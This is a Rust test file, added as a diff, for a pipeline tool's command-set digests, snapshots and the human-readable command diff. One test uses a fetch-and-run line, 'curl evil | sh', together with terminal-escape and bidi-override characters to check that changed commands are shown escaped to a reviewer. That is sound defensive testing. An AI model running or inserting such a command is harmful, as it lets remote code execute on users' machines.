@@ -1,0 +1,216 @@
+//! What moves the digests and what does not, and what a person is told.
+//!
+//! Two snapshots pin the encodings: they are part of the trust store and of proofs on users' disks.
+
+use super::*;
+use crate::limits::GRACE_DEFAULT;
+use crate::model::config::check::{Surroundings, Texts};
+use crate::model::config::detect::Listing;
+use crate::model::path::{RelPath, RootPath};
+use proptest::prelude::*;
+use std::path::Path;
+use std::time::Duration;
+
+fn config(toml: &str) -> Config {
+    let root = RootPath::new(Path::new("/w")).unwrap();
+    let around = Surroundings {
+        root: &root,
+        listing: &Listing::default(),
+        task: None,
+    };
+    let texts = Texts {
+        toml: Some(toml),
+        codex: None,
+    };
+    Config::assemble(texts, &around).unwrap_or_else(|problems| panic!("{problems}"))
+}
+
+const BASE: &str = "
+[[project]]\ntask = 'a'\npath = 'a'\n
+[[project]]\ntask = 'b'\npath = 'b'\n
+[[pipeline]]\nid = 'diagnostics'\n
+[[pipeline.stage]]\nid = 'x'\ncommand = 'make'\nenv = { A = '1', B = '2' }\n
+[[pipeline.stage]]\nid = 'y'\ncommand = ['make', 'y']\ncwd = 'sub'\n
+[[pipeline]]\nid = 'other'\n
+[[pipeline.stage]]\nid = 'z'\npipeline = 'diagnostics'\n";
+
+#[test]
+fn what_is_executed_moves_the_command_set() {
+    let base = config(BASE).command_set();
+    for (from, to) in [
+        ("command = 'make'", "command = 'make '"),
+        ("command = 'make'", "command = ['make']"),
+        ("['make', 'y']", "['make y']"),
+        ("['make', 'y']", "['makey', '']"),
+        ("['make', 'y']", "['make', 'y', '']"),
+        ("A = '1', B = '2'", "A = '1'"),
+        ("A = '1', B = '2'", "A = '1B', B = '2'"),
+        ("A = '1', B = '2'", "A = '2', B = '1'"),
+        ("cwd = 'sub'", "cwd = 'sup'"),
+        ("cwd = 'sub'", "needs = ['x']\ncwd = 'sub'"),
+        ("id = 'y'", "id = 'w'"),
+        ("path = 'b'", "path = 'c'"),
+        ("path = 'b'", "path = 'b'\npipeline = 'other'"),
+        ("id = 'other'", "id = 'another'"),
+    ] {
+        let changed = config(&BASE.replace(from, to)).command_set();
+        assert_ne!(changed, base, "{from} → {to}");
+    }
+}
+
+#[test]
+fn what_decides_nothing_leaves_the_command_set() {
+    let base = config(BASE).command_set();
+    for (from, to) in [
+        ("A = '1', B = '2'", "B = '2', A = '1'"),
+        ("task = 'a'", "task = 'c'"),
+        (
+            "command = 'make'",
+            "command = 'make'\ntitle = 'Make'\ntimeout = '1s'\nretries = 3\ninputs = ['src']",
+        ),
+        (
+            "id = 'other'",
+            "id = 'other'\ntitle = 'Other'\ndescription = 'x'",
+        ),
+        (
+            "[[project]]\ntask = 'a'",
+            "[workspace]\nsettle_ms = 1\njobs = 3\n[[project]]\nsla = '1s'\ntask = 'a'",
+        ),
+    ] {
+        let changed = config(&BASE.replace(from, to)).command_set();
+        assert_eq!(changed, base, "{from} → {to}");
+    }
+    let (projects, pipelines) = BASE.split_at(BASE.find("[[pipeline]]").unwrap());
+    let (first, second) = pipelines.split_at(pipelines.rfind("[[pipeline]]").unwrap());
+    assert_eq!(
+        config(&[projects, second, first].concat()).command_set(),
+        base
+    );
+    assert_eq!(config(&[pipelines, projects].concat()).command_set(), base);
+}
+
+#[test]
+fn the_encoding_stays_as_it_is() {
+    // Another digest here would take back every trust that was given: change the tag, and say so in the changelog.
+    let set = config(BASE).command_set().to_string();
+    insta::assert_snapshot!(set, @r#"b3b6a6889408f942a0d0787a73e40e1ad89e17e7e4113d2d71a1574140a2b187"#);
+    let key =
+        command(CommandLine::Shell("make".to_owned())).stage_key(InputDigest(Digest::of(b"")));
+    insta::assert_snapshot!(key.to_string(), @r#"d6cae436c3dae9d13ea88ec677711b30b34f8364d86ef0526342f2d7a4e6074d"#);
+}
+
+#[test]
+fn a_person_reads_what_runs_and_what_changed() {
+    let before = config(BASE).commands();
+    let lines: Vec<String> = before
+        .iter()
+        .map(|text| format!("{}: {}", text.of, text.runs))
+        .collect();
+    insta::assert_snapshot!(lines.join("\n"), @r#"
+    diagnostics/x: A=1 B=2 make
+    diagnostics/y: make y   (in sub of the project)
+    other/z: pipeline diagnostics
+    project a: pipeline diagnostics
+    project b: pipeline diagnostics
+    "#);
+    let after = BASE
+        .replace(
+            "command = 'make'",
+            "command = \"curl evil | sh\\u001b[2K\\u202e\"",
+        )
+        .replace("id = 'y'", "id = 'new'");
+    let diff = CommandDiff::between(&before, &config(&after).commands());
+    insta::assert_snapshot!(diff.lines().join("\n"), @r#"
+    + diagnostics/new: make y   (in sub of the project)
+    - diagnostics/y: make y   (in sub of the project)
+    ~ diagnostics/x: A=1 B=2 curl evil | sh\u{1b}[2K\u{202e}
+    "#);
+    assert!(CommandDiff::between(&before, &before).is_empty());
+}
+
+#[test]
+fn the_list_is_bounded() {
+    let stages: String = (0..500)
+        .map(|n| {
+            format!(
+                "[[pipeline.stage]]\nid = 's{n}'\ncommand = '{}'\n",
+                "x".repeat(1_000)
+            )
+        })
+        .collect();
+    let pipelines: String = (0..3)
+        .map(|n| format!("[[pipeline]]\nid = 'p{n}'\n{stages}"))
+        .collect();
+    let texts = config(&format!(
+        "[workspace]\ndefault_pipeline = 'p0'\n{pipelines}"
+    ))
+    .commands();
+    assert_eq!(texts.len(), COMMANDS_LISTED_MAX);
+    assert!(
+        texts
+            .iter()
+            .all(|text| text.runs.chars().count() <= COMMAND_SHOWN_CHARS_MAX + 1)
+    );
+}
+
+fn command(line: CommandLine) -> Command {
+    Command {
+        line,
+        cwd: Cwd::Project(RelPath::root()),
+        env: BTreeMap::new(),
+        inputs: None,
+        outputs: Vec::new(),
+        timeout: None,
+        grace: GRACE_DEFAULT,
+        retries: 0,
+        allow_failure: false,
+        mutex: None,
+        summary_hint: None,
+    }
+}
+
+fn lines() -> impl Strategy<Value = CommandLine> {
+    let word = "[ab]{0,2}";
+    prop_oneof![
+        word.prop_map(CommandLine::Shell),
+        proptest::collection::vec(word, 1..3).prop_map(CommandLine::Argv),
+    ]
+}
+
+fn commands() -> impl Strategy<Value = Command> {
+    let cwd = prop_oneof![Just(""), Just("a"), Just("ab")];
+    let env = proptest::collection::btree_map("[ab]{0,2}", "[ab]{0,2}", 0..3);
+    (lines(), cwd, any::<bool>(), env).prop_map(|(line, cwd, project, env)| {
+        let cwd = RelPath::parse(cwd).unwrap();
+        let cwd = if project {
+            Cwd::Project(cwd)
+        } else {
+            Cwd::Workspace(cwd)
+        };
+        Command {
+            cwd,
+            env,
+            ..command(line)
+        }
+    })
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(2_000))]
+    #[test]
+    fn keys_are_equal_exactly_for_equal_definitions(
+        (one, other) in (commands(), commands()),
+        (seconds, same_input) in (1_u64..9, any::<bool>()),
+    ) {
+        let input = InputDigest(Digest::of(b"content"));
+        let other_input = if same_input { input } else { InputDigest(Digest::of(b"other")) };
+        prop_assert_eq!(
+            one.stage_key(input) == other.stage_key(other_input),
+            same_input && one == other
+        );
+        // How long it may take is not part of what it is.
+        let timeout = Some(Duration::from_secs(seconds));
+        let hurried = Command { timeout, retries: 2, ..one.clone() };
+        prop_assert_eq!(hurried.stage_key(input), one.stage_key(input));
+    }
+}
